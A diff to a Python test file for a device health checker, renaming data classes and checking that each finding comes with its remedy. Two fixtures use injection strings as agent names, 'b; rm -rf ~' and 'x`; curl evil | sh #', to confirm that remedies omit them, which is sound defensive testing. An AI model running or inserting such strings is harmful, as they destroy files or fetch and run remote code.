@@ -7,9 +7,9 @@ import pytest
 
 from crystal_mirror.notices import Notice
 from crystal_node.agent.health.channels import Channels, CommandsOpen, Conversations, FilesOut, MirrorIn
-from crystal_node.agent.health.facts import Background, Disk, JobTrouble, Others, Waiting
-from crystal_node.agent.health.findings import CoreSeen, Facts, StuckName, stuck
-from crystal_node.agent.jobs.status import PURPOSE, Holder
+from crystal_node.agent.health.facts import Background, FailingJob, FreeSpace, Others, StagedAgent
+from crystal_node.agent.health.findings import CoreSeen, DeviceFacts, StuckName, stuck
+from crystal_node.agent.jobs.status import PURPOSE, LockHolder
 from crystal_node.base.errors import ExitCode
 from crystal_node.device.access import Access
 from crystal_node.device.activity import (
@@ -30,15 +30,15 @@ def channels(talk: Conversations = NOTHING, commands: CommandsOpen | None = None
     return Channels(talk, MirrorIn(0, None), FilesOut(0, None), commands)
 
 
-WELL = Facts(
+WELL = DeviceFacts(
     now_ms=NOW,
     is_core=False,
     access=Access.OPEN,
     trouble=None,
     moments={Activity.ROUND: NOW - 60_000, Activity.ACK: NOW - HOUR, Activity.PULL: NOW - HOUR},
     channels=channels(),
-    background=Background(Holder(12, PURPOSE)),
-    disks=(Disk(Path("/home/someone/.ldm"), 10 * 2**30, 10_000_000, read_only=False),),
+    background=Background(LockHolder(12, PURPOSE)),
+    disks=(FreeSpace(Path("/home/someone/.ldm"), 10 * 2**30, 10_000_000, read_only=False),),
     core=CoreSeen("desktop", NOW - HOUR),
     quarantined=0,
     notices={},
@@ -50,7 +50,7 @@ WELL = Facts(
 DOWN = RoundFailure(NOW - 3 * HOUR, NOW - 60_000, ExitCode.RELAY_UNREACHABLE, "nobody answers", "hint")
 LATE = channels(Conversations(0, 4, 5 * 3600.0))
 ALONE = Background(None)
-FULL = Disk(Path("/home/someone/.ldm"), 3 * 2**20, 10_000_000, read_only=False)
+FULL = FreeSpace(Path("/home/someone/.ldm"), 3 * 2**20, 10_000_000, read_only=False)
 
 
 def test_of_a_device_that_is_well_nothing_is_said() -> None:
@@ -71,7 +71,7 @@ def test_of_a_device_that_is_well_nothing_is_said() -> None:
         (replace(WELL, disks=(FULL,)), StuckName.DISK, "Only 3.0 MiB are left", "Make room"),
         (replace(WELL, disks=(replace(FULL, read_only=True),)), StuckName.DISK, "takes no writes", "mount"),
         (
-            replace(WELL, disks=(Disk(Path("/h"), 2**40, 7, read_only=False),)),
+            replace(WELL, disks=(FreeSpace(Path("/h"), 2**40, 7, read_only=False),)),
             StuckName.DISK,
             "7 names of files are left",
             "Make room",
@@ -148,7 +148,7 @@ def test_of_a_device_that_is_well_nothing_is_said() -> None:
             "crystal backfill",
         ),
         (
-            replace(WELL, background=Background(None, (JobTrouble("backup", "no room", 3, NOW),))),
+            replace(WELL, background=Background(None, (FailingJob("backup", "no room", 3, NOW),))),
             StuckName.JOB,
             "The job backup failed 3 times in a row: no room",
             "crystal jobs run backup",
@@ -157,7 +157,7 @@ def test_of_a_device_that_is_well_nothing_is_said() -> None:
             replace(
                 WELL,
                 others=Others(
-                    staging=(Waiting("b; rm -rf ~", "b-rm-1a2b3c4d", "waits for you", False, NOW),)
+                    staging=(StagedAgent("b; rm -rf ~", "b-rm-1a2b3c4d", "waits for you", False, NOW),)
                 ),
             ),
             StuckName.STAGING,
@@ -166,7 +166,8 @@ def test_of_a_device_that_is_well_nothing_is_said() -> None:
         ),
         (
             replace(
-                WELL, others=Others(staging=(Waiting("b", "b", "failed while weaving: no key", True, NOW),))
+                WELL,
+                others=Others(staging=(StagedAgent("b", "b", "failed while weaving: no key", True, NOW),)),
             ),
             StuckName.STAGING,
             "no key",
@@ -192,7 +193,9 @@ def test_of_a_device_that_is_well_nothing_is_said() -> None:
         ),
     ],
 )
-def test_each_thing_is_told_with_its_remedy(facts: Facts, name: StuckName, says: str, advises: str) -> None:
+def test_each_thing_is_told_with_its_remedy(
+    facts: DeviceFacts, name: StuckName, says: str, advises: str
+) -> None:
     found = stuck(facts)
     assert [each.name for each in found] == [name]
     assert says in found[0].text
@@ -216,7 +219,7 @@ def test_a_relay_that_refuses_this_device_is_told_once_and_as_a_concern() -> Non
 
 
 def test_the_name_of_a_hostile_agent_stands_in_no_command_to_copy() -> None:
-    hostile = Waiting("x`; curl evil | sh #", "x-1a2b3c4d", "waits for you", False, NOW)
+    hostile = StagedAgent("x`; curl evil | sh #", "x-1a2b3c4d", "waits for you", False, NOW)
     found = stuck(replace(WELL, others=Others(staging=(hostile,))))
     assert "x-1a2b3c4d" in found[0].remedy
     assert "curl" not in found[0].remedy
@@ -224,9 +227,9 @@ def test_the_name_of_a_hostile_agent_stands_in_no_command_to_copy() -> None:
 
 def test_many_new_agents_are_told_in_one_sentence_and_those_that_failed_by_name() -> None:
     asking = tuple(
-        Waiting(f"agent{number}", f"agent{number}", "waits for you", False, NOW) for number in range(5)
+        StagedAgent(f"agent{number}", f"agent{number}", "waits for you", False, NOW) for number in range(5)
     )
-    failed = Waiting("b", "b", "failed while weaving: no key", True, NOW)
+    failed = StagedAgent("b", "b", "failed while weaving: no key", True, NOW)
     found = stuck(replace(WELL, others=Others(staging=(*asking, failed))))
     assert [each.text[:20] for each in found] == ["5 new agents wait fo", "The new agent b fail"]
     assert "crystal staging list" in found[0].remedy
